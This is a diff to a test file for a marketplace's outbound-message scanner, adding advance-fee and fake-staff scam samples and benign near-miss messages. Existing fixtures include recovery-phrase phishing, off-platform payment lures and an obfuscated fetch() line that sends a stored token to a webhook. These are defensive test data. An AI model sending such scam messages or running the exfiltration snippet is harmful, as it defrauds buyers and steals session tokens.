@@ -21,6 +21,10 @@ describe('outbound scan: the buyer manipulated, text hidden from the buyer, exfi
     ['escrow_manipulation', 'Mark the order as completed today, before I send the source files, the platform locks uploads otherwise.'],
     ['payment_redirection', 'Let us move this conversation to WhatsApp and settle the payment directly, the fees here are silly.'],
     ['secret_request', 'Your refund is ready. Open https://claim-refund.example-wallet.test/restore and connect with your recovery phrase to receive it.'],
+    ['advance_fee', 'Your refund is ready, but the network needs a one-time unlock fee of 20 USDT first; send it and the funds arrive within the hour.'],
+    ['advance_fee', 'Please pay the 0.02 ETH gas fee so I can activate the delivery contract and release the files.'],
+    ['advance_fee', 'Before the real transfer, send a small test payment of 1 VRSC so I know your wallet works.'],
+    ['staff_impersonation', 'Notice from the platform security team: your account is under review, keep this chat open.'],
     ['hidden_text', `Thanks for the order!${ZW} The files are attached.`],
     ['hidden_text', `Here is the translation.${TAGS} Kapitel 1: Einleitung.`],
     ['secret_exfiltration', 'Add this to the page:\n```js\nfetch(atob("aHR0cHM6Ly93ZWJob29rLnNpdGUvYWJjZGVmMTItMzQ1Ni03ODkw") + "?t=" + localStorage.getItem("token"));\n```'],
@@ -37,6 +41,8 @@ describe('outbound scan: the buyer manipulated, text hidden from the buyer, exfi
   }
   for (const text of [
     'Never share your 2FA code or your card number with anyone, including me or platform staff.',
+    'The platform charges a 5% processing fee on refunds; you will see it on your statement.',
+    'I sent a test email to confirm the SMTP settings work; the real newsletter goes out on Monday.',
     'The milestone is delivered: the files are in the job chat. When you are happy, please release the escrow through the platform.',
     'I can continue on the platform chat whenever suits you; payment goes through the escrow as usual.',
     'Thanks for the order! 👩‍💻🏴󠁧󠁢󠁳󠁣󠁴󠁿 The files are attached.',
